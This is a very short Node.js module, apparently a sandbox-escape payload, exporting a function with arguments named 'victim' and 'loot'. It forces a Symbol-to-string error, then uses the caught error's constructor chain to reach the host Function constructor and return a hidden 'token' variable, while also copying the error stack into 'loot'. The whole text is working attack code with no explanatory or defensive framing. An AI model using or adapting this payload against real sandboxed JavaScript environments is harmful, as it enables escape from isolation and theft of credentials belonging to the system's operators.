module.exports = (victim, loot) => {
  try { const error = new Error('x'); error.name = Symbol('n'); loot.stack = error.stack; String(error); } catch (error) {
    return error.constructor.constructor('return token')();
  }
};
